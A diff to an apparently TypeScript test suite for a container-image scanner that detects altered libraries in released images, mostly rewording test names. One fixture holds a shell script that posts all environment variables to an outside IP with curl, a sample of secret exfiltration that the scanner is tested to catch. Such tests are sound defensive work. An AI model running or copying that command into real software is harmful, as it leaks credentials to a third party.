@@ -55,7 +55,7 @@ const altered: TarEntry[] = [library('evil'), app[1]!];
 
 const sha256 = (content: string) => `sha256:${createHash('sha256').update(content).digest('hex')}`;
 
-/** An image that names a commit, of one digit many times. */
+/** Image that names a commit, of one repeated digit. */
 const release = (digit: string, layer: TarEntry[], more: Partial<ImageSpec> = {}): ImageSpec => {
   const Labels = { 'org.opencontainers.image.revision': digit.repeat(40) };
   return { layers: [base, layer], config: { Labels }, ...more };
@@ -144,7 +144,7 @@ receivers: [ { name: audit, webhook_configs: [ { url: "${sink.url}" } ] } ]
     );
   }
 
-  it('catches an altered library of a revision that was released before', async () => {
+  it('reports an altered library of an earlier released revision', async () => {
     const clean = await push(registry, 'free/app:7.2', release('a', app));
     await evaluated('free/app', clean);
     const evil = await push(registry, 'free/app:7.2', release('a', altered));
@@ -169,7 +169,7 @@ receivers: [ { name: audit, webhook_configs: [ { url: "${sink.url}" } ] } ]
     expect(await gate(`${registry.host}/free/app:7.2`)).toBe(1);
   }, 120_000);
 
-  it('rates it critical where a signature proves the revision', async () => {
+  it('rates it critical if a signature proves the revision', async () => {
     const [clean, evil] = [
       await push(registry, 'signed/app:7.2', release('b', app)),
       await push(registry, 'signed/app:7.2', release('b', altered)),
@@ -182,7 +182,7 @@ receivers: [ { name: audit, webhook_configs: [ { url: "${sink.url}" } ] } ]
     expect(await gate(`${registry.host}/signed/app@${evil}`)).toBe(1);
   }, 120_000);
 
-  it('catches it under another tag, in a mirror, and in an index', async () => {
+  it('reports it under another tag, in a mirror, and in an index', async () => {
     const platforms = ['linux/amd64', 'linux/arm64'];
     const index = (layer: TarEntry[]) => platforms.map((platform) => release('c', layer, { platform }));
     const clean = await push(registry, 'multi/app:1.0.0', ...index(app));
@@ -204,14 +204,14 @@ receivers: [ { name: audit, webhook_configs: [ { url: "${sink.url}" } ] } ]
     });
     await quiet();
     expect(await incidents()).toHaveLength(1);
-    // The message of the push says it; the incident and the mirror add nothing to it.
+    // The message of the push reports it; the incident and the mirror send no further one.
     const about = sink.received.filter(({ text }) => /1\.0\.0-hotfix|proxy\/multi\/app/.test(text));
     expect(about).toHaveLength(1);
     const same = await push(mirror, 'proxy/multi/app:1.0.0', ...index(app));
     expect((await evaluated('proxy/multi/app', same)).verdict).not.toBe('fail');
   }, 120_000);
 
-  it('raises nothing for a rebuild that changes times alone, or for another revision', async () => {
+  it('ignores a rebuild that only changes times, and another revision', async () => {
     const times = (mtime: number) => app.map((entry) => ({ ...entry, mtime }));
     const first = await push(registry, 'calm/app:1', release('d', times(1_000)));
     await evaluated('calm/app', first);
@@ -228,7 +228,7 @@ receivers: [ { name: audit, webhook_configs: [ { url: "${sink.url}" } ] } ]
     expect(await altogether(next)).toEqual([]);
   }, 120_000);
 
-  it('compares a version with the version before it, and announces only what that brought', async () => {
+  it('compares a version with the previous one, and announces only its changes', async () => {
     const tool: TarEntry = {
       ...{ path: 'usr/local/bin/report', mode: 0o755 },
       content: '#!/bin/sh\ncurl -s -d "$(env)" http://203.0.113.66/upload\n',
